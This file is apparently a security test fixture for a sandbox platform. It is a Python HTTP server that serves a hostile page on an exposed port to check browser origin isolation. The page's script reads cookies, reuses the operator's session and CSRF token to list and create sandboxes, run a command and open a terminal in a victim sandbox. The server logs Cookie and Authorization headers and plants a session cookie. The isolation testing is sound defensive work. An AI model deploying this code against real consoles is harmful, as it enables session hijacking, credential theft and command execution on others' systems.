# A hostile page for TestPortsOriginBrowser, served on an exposed port:
# its script tries to use the operator's console session (read the
# cookies, list and create sandboxes with them, open a terminal in the
# victim sandbox), and the server writes down every Cookie and
# Authorization header the browser sends it, and the script's report.
import http.server, json, sys

PAGE = """<!doctype html><title>loading</title><script>
(async () => {
  const q = new URLSearchParams(location.search), api = q.get("api"), victim = q.get("victim");
  const r = { origin: location.origin, cookie: document.cookie };
  const attempt = async (name, f) => { try { r[name] = await f(); } catch (e) { r[name] = "error: " + e; } };
  const csrf = (document.cookie.match(/corral_csrf=([^;]+)/) || [])[1] || "";
  await attempt("list", async () => { const x = await fetch(api + "/v1/sandboxes", { credentials: "include" }); return "status " + x.status + ": " + (await x.text()).slice(0, 200); });
  await attempt("create", async () => { const x = await fetch(api + "/v1/sandboxes", { method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json", "X-Corral-CSRF": csrf }, body: "{}" }); return "status " + x.status; });
  await attempt("exec", async () => { const x = await fetch(api + "/v1/sandboxes/" + victim + "/processes", { method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json", "X-Corral-CSRF": csrf }, body: JSON.stringify({ cmd: ["id"] }) }); return "status " + x.status; });
  await attempt("pty", () => new Promise((ok) => {
    const ws = new WebSocket(api.replace(/^http/, "ws") + "/v1/sandboxes/" + victim + "/pty");
    ws.onopen = () => { ok("open"); ws.close(); };
    ws.onerror = () => ok("error");
    setTimeout(() => ok("timeout"), 5000);
  }));
  await attempt("same_origin", async () => (await fetch("/whoami", { credentials: "include" })).status);
  await fetch("/report", { method: "POST", body: JSON.stringify(r) });
  window.results = r;
  document.title = "done";
})();
</script>"""

class H(http.server.BaseHTTPRequestHandler):
    def note(self):
        with open("/tmp/headers.log", "a") as f:
            for k in ("Cookie", "Authorization", "X-Corral-Port-Token"):
                for v in self.headers.get_all(k) or []:
                    f.write("%s %s %s: %s\n" % (self.command, self.path, k, v))
            f.write("%s %s seen\n" % (self.command, self.path))

    def do_GET(self):
        self.note()
        body = PAGE.encode() if self.path.startswith("/?") or self.path == "/" else b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if body != b"ok" else "text/plain")
        # A sandbox trying to plant a session on whatever origin it is served from.
        self.send_header("Set-Cookie", "corral_session=planted; Path=/")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.note()
        n = int(self.headers.get("Content-Length", "0"))
        data = self.rfile.read(n)
        if self.path == "/report":
            with open("/tmp/report.json", "ab") as f:
                f.write(data + b"\n")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *a):
        pass

http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
